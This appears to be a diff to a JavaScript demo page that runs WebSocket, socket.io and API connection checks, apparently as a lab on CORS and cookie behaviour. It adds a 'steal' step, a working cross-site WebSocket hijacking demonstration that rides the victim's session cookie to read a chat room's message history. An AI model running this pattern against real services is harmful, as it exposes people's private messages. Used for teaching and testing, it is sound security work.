@@ -59,6 +59,26 @@
     });
   }
 
+  async function openSocket(url) {
+    let ws;
+    try {
+      ws = new WebSocket(url);
+    } catch (e) {
+      // Mixed content: an https page may not even construct a ws:// socket.
+      return { failed: { state: "blocked", detail: `${e.name}: ${e.message}` } };
+    }
+    const failed = await new Promise((resolve) => {
+      const timer = setTimeout(() => resolve({ state: "error", detail: "timed out" }), TIMEOUT_MS);
+      ws.addEventListener("open", () => { clearTimeout(timer); resolve(null); });
+      ws.addEventListener("close", (ev) => {
+        clearTimeout(timer);
+        // The page is never told why (403, certificate, no TLS): only the console says.
+        resolve({ state: "blocked", detail: `connection failed (close code ${ev.code})` });
+      });
+    });
+    return failed ? { failed } : { ws };
+  }
+
   const steps = {
     async hello() {
       const r = await callApi("/api/hello");
@@ -85,33 +105,54 @@
     },
     async socket() {
       if (cfg.ws === null) return { state: "skipped", detail: "this page has no chat" };
-      try {
-        socket = new WebSocket(cfg.ws);
-      } catch (e) {
-        // Mixed content: an https page may not even construct a ws:// socket.
-        return { state: "blocked", detail: `${e.name}: ${e.message}` };
-      }
-      const ws = socket;
-      ws.addEventListener("message", (ev) => {
+      const r = await openSocket(cfg.ws);
+      if (r.failed) return r.failed;
+      socket = r.ws;
+      socket.addEventListener("message", (ev) => {
         try {
           const m = JSON.parse(ev.data);
           if (m.type === "message") logLine(`#${m.seq} ${m.user}: ${m.text}`);
         } catch (e) { /* not ours */ }
       });
-      const opened = await new Promise((resolve) => {
-        const timer = setTimeout(() => resolve({ state: "error", detail: "timed out" }), TIMEOUT_MS);
-        ws.addEventListener("open", () => { clearTimeout(timer); resolve(null); });
-        ws.addEventListener("close", (ev) => {
-          clearTimeout(timer);
-          // The page is never told why (403, certificate, no TLS): only the console says.
-          resolve({ state: "blocked", detail: `connection failed (close code ${ev.code})` });
+      const joined = waitFor(socket, (m) => m.type === "history" &&
+        { state: "ok", detail: `joined ${m.room} as ${m.user} (${m.messages.length} earlier messages)` });
+      socket.send(JSON.stringify({ type: "join", room: cfg.room }));
+      return joined;
+    },
+    async steal() {
+      // The attacker's page: it never sees the victim's cookie, but the browser attaches it to
+      // the WebSocket handshake, and no CORS rule stops the page from reading the answer.
+      const r = await openSocket(cfg.ws);
+      if (r.failed) return r.failed;
+      // The attack works only if the browser sent the victim's session cookie along.
+      const stolen = waitFor(r.ws, (m) => m.type === "history" && (m.user === "guest"
+        ? { state: "error", detail: "connected, but without the victim's session: nothing to read" }
+        : {
+          state: "ok",
+          detail: `read ${m.messages.length} messages of #${m.room} as ${m.user}` +
+            (m.messages.length ? `: "${m.messages[m.messages.length - 1].text}"` : ""),
+        }));
+      r.ws.send(JSON.stringify({ type: "join", room: cfg.room }));
+      const result = await stolen;
+      for (const line of (result.state === "ok" ? [result.detail] : [])) logLine(line);
+      r.ws.close(1000, "done");
+      return result;
+    },
+    async sio() {
+      if (typeof io === "undefined") return { state: "error", detail: "socket.io client not loaded" };
+      const s = io(cfg.sio, { reconnection: false, timeout: TIMEOUT_MS });
+      return new Promise((resolve) => {
+        const done = (r) => { clearTimeout(timer); s.close(); resolve(r); };
+        const timer = setTimeout(() => done({ state: "error", detail: "timed out" }), TIMEOUT_MS);
+        // A polling request blocked by CORS surfaces here only as "xhr poll error".
+        s.on("connect_error", (err) => done({ state: "blocked", detail: `connect_error: ${err.message}` }));
+        s.on("connect", () => {
+          s.on("message", (m) => {
+            if (m.text === cfg.message) done({ state: "ok", detail: `connected; message #${m.seq} delivered` });
+          });
+          s.emit("say", { text: cfg.message });
         });
       });
-      if (opened) { socket = null; return opened; }
-      const joined = waitFor(ws, (m) => m.type === "history" &&
-        { state: "ok", detail: `joined ${m.room} as ${m.user} (${m.messages.length} earlier messages)` });
-      ws.send(JSON.stringify({ type: "join", room: cfg.room }));
-      return joined;
     },
     async chat() {
       if (!socket || socket.readyState !== WebSocket.OPEN) {
